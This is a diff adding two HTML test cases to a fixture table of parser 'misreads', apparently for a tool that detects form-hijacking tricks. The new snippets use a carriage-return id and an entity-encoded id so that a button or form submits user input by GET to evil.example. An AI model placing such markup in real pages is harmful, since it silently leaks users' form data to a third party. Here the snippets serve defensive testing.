@@ -115,6 +115,10 @@ const MISREAD = {
   // the `</form>` and keeps the GET form the browser's.
   "/misread/commandfor-get": `<form method="get" action="/search"><input name="q"><button commandfor="d" formmethod="post">Go</button></form>`,
   "/misread/noscript-bang-comment": `<form method="get" action="https://evil.example/c"><noscript><!-- --!><xmp><!-- --></noscript></form><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
+  // Ids as a browser reads them: a raw CR is LF, so this GET button names
+  // the keyed form; an id the core cannot decode may be another's.
+  "/misread/cr-id": `<form id="f\nx" method="post" action="/orders"><input name="q"><button>Pay</button></form><button form="f\rx" formmethod="get" formaction="https://evil.example/c">Look</button>`,
+  "/misread/undecodable-id": `<form id="caf&eacute;" method="get" action="https://evil.example/c"><input name="q"></form><form id="café" method="post" action="/orders"><button>Pay</button></form>`,
   "/misread/noscript-template-get": `<form method="get" action="https://evil.example/c"><noscript><template></noscript></form></template><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
 };
 // Markup common on real pages that reads alike to both: keys as usual.
